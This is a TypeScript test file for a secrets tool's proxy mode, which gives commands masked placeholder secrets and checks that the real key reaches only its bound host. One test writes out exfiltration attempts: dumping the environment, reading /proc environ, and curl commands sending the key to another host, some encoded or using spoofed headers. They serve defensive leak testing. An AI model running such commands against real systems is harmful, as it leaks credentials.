/** `zephr run --proxy`: programs that know nothing of it use secrets that they do not have. */

import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { linesOf, readLine } from '../../src/broker/audit/chain.js';
import { readAuditLog } from '../../src/broker/audit/log.js';
import { host } from '../support/proxy.js';
import { makeCertificate } from '../support/self-signed.js';
import { HAS_SCRIPT, type } from '../support/typing.js';
import { type VaultSession, vaultSession } from '../support/vault.js';

const SECRET = 'sk_live_Ab1cDe2fGh3iJk4lMn5o';

let folder: string;
let server: Server;
let target: string;
let url: string;
const asked: IncomingMessage[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'zephr-host-'));
  const { cert, key } = makeCertificate(folder, 'host');
  server = createServer({ cert: readFileSync(cert), key: readFileSync(key) }, answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  target = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  url = `https://${target}`;
});

beforeEach(() => {
  asked.length = 0;
});

afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A host that takes the secret as a bearer token or a password, and repeats what it was sent. */
function answer(message: IncomingMessage, response: ServerResponse): void {
  asked.push(message);
  const { authorization = '' } = message.headers;
  const pair = Buffer.from(authorization.replace(/^Basic /, ''), 'base64').toString();
  const isKnown = authorization === `Bearer ${SECRET}` || pair === `x:${SECRET}`;
  if (!isKnown) response.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' }).end(authorization);
  else if (message.url?.startsWith('/repo.git/info/refs'))
    response.end(`${'0'.repeat(39)}1\trefs/heads/main\n`);
  else response.end(`you are ${authorization}\n`);
}

/** A session with API_KEY, bound to the host, and certificates to trust for it. */
async function boundSession(options = ''): Promise<VaultSession> {
  const session = await vaultSession({ FREE: 'unbound-value' });
  session.env.ZEPHR_CA_FILE = join(folder, 'host.crt');
  const set = await session.sh(`printf %s '${SECRET}' | zephr vault set API_KEY --host ${target} ${options}`);
  expect(set.code, set.stderr).toBe(0);
  return session;
}

const has = (command: string, ...args: string[]) => spawnSync(command, args).status === 0;

/** The Python that has requests: a session's PATH may lead to another one. */
const PYTHON = spawnSync('python3', ['-c', 'import requests, sys; print(sys.executable)'], {
  env: { ...process.env, HOME: '/' },
})
  .stdout?.toString()
  .trim();

describe('a command behind a proxy', () => {
  it('has a placeholder in place of a bound secret, and what is unbound', async () => {
    const session = await boundSession();
    const { stdout, code, stderr } = await session.sh('zephr run --proxy -- sh -c \'echo "$API_KEY $FREE"\'');
    expect(code, stderr).toBe(0);
    expect(stdout).toMatch(/^sk_live_[0-9A-Za-z]{20} \[masked FREE\]\n$/);
    expect(stdout).not.toContain(SECRET);
    const only = await session.sh('zephr run --proxy --only API_KEY -- sh -c \'echo "$API_KEY:$FREE"\'');
    expect(only.stdout).toMatch(/^sk_live_\w{20}:\n$/);
    expect((await session.sh('zephr run --only API_KEY -- true')).code).toBe(125);
  });

  it('is told of the proxy in variables, whose token does not show', async () => {
    const { stdout } = await (await boundSession()).sh('zephr run --proxy -- env');
    const env = Object.fromEntries(stdout.split('\n').map((line) => line.split(/=(.*)/s).slice(0, 2)));
    for (const name of ['HTTPS_PROXY', 'https_proxy', 'HTTP_PROXY', 'http_proxy'])
      expect(env[name]).toMatch(/^http:\/\/zephr:\[masked PROXY_TOKEN\]@127\.0\.0\.1:\d+$/);
    expect(env).toMatchObject({
      NO_PROXY: 'localhost,::1',
      no_proxy: 'localhost,::1',
      NODE_USE_ENV_PROXY: '1',
    });
  });

  it('trusts what the user does and the proxy, from files that are gone afterwards', async () => {
    const session = await boundSession();
    writeFileSync(join(session.folder, 'own.pem'), readFileSync(join(folder, 'host.crt')));
    session.env.NODE_EXTRA_CA_CERTS = join(session.folder, 'own.pem');
    session.env.TMPDIR = session.folder;
    const files = [
      'SSL_CERT_FILE',
      'CURL_CA_BUNDLE',
      'REQUESTS_CA_BUNDLE',
      'GIT_SSL_CAINFO',
      'AWS_CA_BUNDLE',
    ];
    const script = ['NODE_EXTRA_CA_CERTS', ...files]
      .map((name) => `grep -c BEGIN "$${name}"; grep -cF "$(sed -n 2p own.pem)" "$${name}"`)
      .join(';');
    const { stdout, code } = await session.sh(`zephr run --proxy -- sh -c '${script}'`);
    const counts = stdout.trim().split('\n').map(Number);
    expect(code).toBe(0);
    expect(counts.slice(0, 2)).toEqual([2, 1]);
    for (const index of files.keys()) {
      expect(counts[index * 2 + 2]).toBeGreaterThan(2);
      expect(counts[index * 2 + 3]).toBe(1);
    }
    expect(readdirSync(session.folder).filter((name) => name.startsWith('zephr-proxy-'))).toEqual([]);
    expect(readdirSync(join(session.folder, 'runtime/zephr'))).toEqual([]);
  });

  it.each<[string, string, boolean]>([
    ['curl', `curl -sS -H "Authorization: Bearer $API_KEY" URL/a`, has('curl', '--version')],
    ['curl with a password', `curl -sS -u "x:$API_KEY" URL/a`, has('curl', '--version')],
    [
      'Python requests',
      `${PYTHON} -c "import os, requests; print(requests.get('URL/a', headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}).text)"`,
      PYTHON !== '',
    ],
    [
      'Python urllib',
      `python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('URL/a', headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})).read())"`,
      has('python3', '--version'),
    ],
    [
      'Node fetch',
      `node -e "fetch('URL/a', {headers: {authorization: 'Bearer ' + process.env.API_KEY}}).then((r) => r.text()).then(console.log)"`,
      nodeKnowsProxies(),
    ],
  ])('by %s sends the secret, and gets it masked', async (name, script, isThere) => {
    if (!isThere) return console.log(`skipped: there is no ${name} here that knows proxies`);
    const session = await boundSession();
    const line = script.replaceAll('URL', url).replaceAll("'", `'\\''`);
    const { stdout, stderr, code } = await session.sh(`zephr run --proxy -- sh -c '${line}'`);
    expect(code, stderr).toBe(0);
    expect(stdout).toMatch(/you are (?:Bearer|Basic) \S*\[masked API_KEY\]/);
    expect(asked.at(-1)?.url).toBe('/a');
    const { files } = await readAuditLog(join(session.folder, '.local/state/zephr/audit.jsonl'));
    const entries = files.flatMap(({ text }) => linesOf(text)).map(readLine);
    expect(entries.at(-1)).toMatchObject({
      command: 'run',
      secrets: ['API_KEY'],
      host: target,
      decision: 'done',
      status: 200,
    });
  });

  it.skipIf(!has('git', '--version'))('by git sends the secret', async () => {
    const session = await boundSession();
    const line = `git ls-remote "https://x:$API_KEY@${target}/repo.git"`;
    const { stdout, stderr, code } = await session.sh(`zephr run --proxy -- sh -c '${line}'`);
    expect(code, stderr).toBe(0);
    expect(stdout).toBe(`${'0'.repeat(39)}1\trefs/heads/main\n`);
    expect(stdout + stderr).not.toContain(SECRET);
  });

  it('that tries to get the secret out does not', async () => {
    const other = await host();
    const session = await boundSession();
    const script = [
      'echo "$API_KEY"; env; cat /proc/$$/environ | tr "\\0" "\\n"',
      `curl -s -H "X-Key: $API_KEY" -d "$API_KEY" "${other.url}/?k=$API_KEY"`,
      `curl -s --proxytunnel -H "Authorization: Bearer $API_KEY" ${other.url}/`,
      `curl -s -H "Host: ${other.host}" -H "Authorization: Bearer $API_KEY" ${url}/`,
      `curl -s -H "Authorization: Bearer $API_KEY" ${url}/a | base64 | rev`,
      `curl -s -r 0-20 -H "Authorization: Bearer $API_KEY" ${url}/a`,
      `curl -s -H "Accept-Encoding: gzip" -H "Authorization: Bearer $API_KEY" ${url}/a | od -c`,
    ].join(';');
    const { stdout, stderr } = await session.sh(`zephr run --proxy -- sh -c '${script}'`);
    const shown = [stdout, [...stdout].reverse().join('')]
      .flatMap((text) => [text, atobAll(text)])
      .join('\n');
    expect(shown + stderr).not.toContain(SECRET.slice(8));
    expect(shown.replaceAll(/\s+/g, '')).not.toContain(SECRET.slice(8));
    for (const { url: to, rawHeaders, body } of other.asked)
      expect(to + rawHeaders + body).not.toContain(SECRET);
  });

  it('is kept from hosts without a secret where egress is strict', async () => {
    const other = await host();
    const session = await boundSession();
    const strict = await session.sh(
      `zephr run --proxy --egress strict -- curl -sS -o /dev/null -w '%{http_code}' --noproxy '' ${other.url}/`,
    );
    expect(strict.stdout).toBe('403');
    expect(other.asked).toEqual([]);
    expect((await session.sh('zephr run --egress strict -- true')).code).toBe(125);
  });

  it('ends as it would without one', async () => {
    const session = await boundSession();
    expect((await session.sh("zephr run --proxy -- sh -c 'exit 7'")).code).toBe(7);
    expect((await session.sh("zephr run --proxy -- sh -c 'kill -TERM $$'; echo $?")).stdout).toBe('143\n');
    expect((await session.sh('zephr run --proxy -- no-such-command')).code).toBe(127);
  });

  it.skipIf(!HAS_SCRIPT)('waits for a person where a secret wants one', async () => {
    const session = await boundSession('--approve');
    const running = session.sh(
      `zephr run --proxy -- sh -c 'curl -sS -H "Authorization: Bearer $API_KEY" ${url}/a'`,
    );
    await expect.poll(async () => (await session.sh('zephr proxy status')).stdout).toContain(' 1 uses wait');
    const shown = await type(session, 'zephr proxy approve', [['to allow it', 'yes\r']]);
    expect(shown.screen).toContain(`GET ${target}/a wants API_KEY as bearer`);
    expect((await running).stdout).toBe('you are Bearer [masked API_KEY]\n');
  });
});

/** Everything in a text that reads as base64, decoded. */
function atobAll(text: string): string {
  return (text.match(/[\w+/=-]{12,}/g) ?? [])
    .map((word) => Buffer.from(word, 'base64').toString('latin1'))
    .join('\n');
}

/** 22.21 and later, and from 24.5 on. */
function nodeKnowsProxies(): boolean {
  const [major = 0, minor = 0] = process.versions.node.split('.').map(Number);
  return (major === 22 && minor >= 21) || (major === 24 && minor >= 5) || major > 24;
}
